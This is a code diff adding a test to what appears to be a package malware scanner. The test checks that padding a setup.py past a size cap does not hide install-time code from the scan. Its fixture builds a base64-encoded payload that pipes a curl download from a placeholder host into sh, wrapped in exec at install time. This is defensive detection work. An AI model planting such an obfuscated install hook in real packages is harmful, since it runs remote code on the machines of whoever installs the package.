@@ -670,6 +670,20 @@ def test_hostile_content_does_not_break_the_scan(tmp_path: Path) -> None:
     assert all(len(f.snippet) <= SNIPPET_MAX for f in findings)
 
 
+def test_install_time_code_padded_past_the_size_cap_is_still_parsed(tmp_path: Path) -> None:
+    # Found on a real sample: a 1.7 MB setup.py that execs a base64 blob at install time
+    # came out clean once large Python files were skipped. Padding must not hide install code.
+    payload = "import os\nos.system('curl -s http://" + HOST + "/x | sh')\n" + "#" * 1_300_000
+    setup = SETUP_HEAD + "from base64 import b64decode\n" + f"exec(b64decode('{_b64(payload)}'))\n"
+    assert len(setup) > 1024 * 1024
+    findings = _scan(
+        tmp_path, {"demo-widget-1.0.0/setup.py": setup, "demo-widget-1.0.0/PKG-INFO": PKG_INFO}
+    )
+    verdict, _ = scoring.verdict(findings)
+    assert verdict == "malicious", [f.rule for f in findings]
+    assert any(f.rule == "PY-EXEC-DECODED" and f.reachability == "install" for f in findings)
+
+
 def test_check_cancels_between_files(tmp_path: Path) -> None:
     root = _tree(tmp_path, {f"demo-1.0/demo/m{i}.py": "x = 1\n" for i in range(5)})
     calls: list[int] = []
